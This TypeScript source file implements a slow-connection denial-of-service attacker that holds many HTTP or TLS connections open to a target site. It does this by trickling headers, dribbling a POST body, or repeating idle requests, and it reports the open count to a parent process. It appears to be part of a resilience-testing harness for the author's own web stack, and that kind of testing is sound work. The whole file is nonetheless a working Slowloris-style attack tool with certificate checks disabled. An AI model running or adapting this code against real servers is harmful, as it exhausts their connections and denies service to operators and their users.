import { connect, type Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';

/**
 * The attacker's process, in the network of the stack's users: `attacker.ts <kind> <connections> <from> <host> <site>`. It keeps so many
 * connections open, each in its way, and opens a new one for each that is closed. It has an address of its own, hence ports of its own.
 * It says several times a second how many are open, and ends with whoever started it.
 */
export type Attack = 'slow-headers' | 'slow-body' | 'idle';

interface Way {
  readonly first: string;
  readonly again: string;
  /** Milliseconds. */
  readonly every: number;
}

const WAYS: Readonly<Record<Attack, Way>> = {
  'slow-headers': {
    first: 'GET / HTTP/1.1\r\nHost: www.foobar.com\r\n',
    ...{ again: 'X-Slow: 1\r\n', every: 1000 },
  },
  'slow-body': {
    first: 'POST /notes HTTP/1.1\r\nHost: www.foobar.com\r\nContent-Length: 10000\r\n\r\n',
    ...{ again: 'a', every: 1000 },
  },
  // Again before the site ends what is idle: opening them anew would take more of both sides than keeping them.
  idle: {
    first: 'GET /static/home.css HTTP/1.1\r\nHost: www.foobar.com\r\n\r\n',
    ...{ again: 'GET /static/home.css HTTP/1.1\r\nHost: www.foobar.com\r\n\r\n', every: 10_000 },
  },
};
/** So many connections are opened at once, and so long is waited after them, in milliseconds. */
const [AT_ONCE, PAUSE] = [10, 20];
const REPORT_PAUSE = 100;

const [kind, count, localAddress, host, site] = process.argv.slice(2);
const way = WAYS[kind as Attack];
const connections = Number(count);
if (!way || !(connections > 0) || !localAddress || !host || !site) {
  console.error(`The attacker cannot keep ${count} connections of the kind "${kind}" open to ${host}.`);
  process.exit(2);
}
const { protocol, hostname, port } = new URL(site);
const to = { host, localAddress, port: Number(port) || (protocol === 'https:' ? 443 : 80) };
const begun = new Set<Socket>();
const open = new Set<Socket>();

process.on('disconnect', () => process.exit());
setInterval(() => {
  const missing = connections - begun.size;
  for (let i = 0; i < Math.min(missing, AT_ONCE); i++) start();
}, PAUSE);
setInterval(() => process.send?.(open.size), REPORT_PAUSE);

function start(): void {
  const begin = () => {
    open.add(socket);
    socket.write(way.first);
    const repeat = setInterval(() => socket.write(way.again), way.every);
    socket.on('close', () => clearInterval(repeat));
  };
  const socket =
    protocol === 'https:'
      ? connectTls({ ...to, servername: hostname, rejectUnauthorized: false }, begin)
      : connect(to, begin);
  begun.add(socket);
  socket.on('data', () => {}).on('error', () => {});
  // Either side's end is the end: what the other one has closed is open no longer.
  socket.on('end', () => open.delete(socket));
  socket.on('close', () => {
    open.delete(socket);
    begun.delete(socket);
  });
}
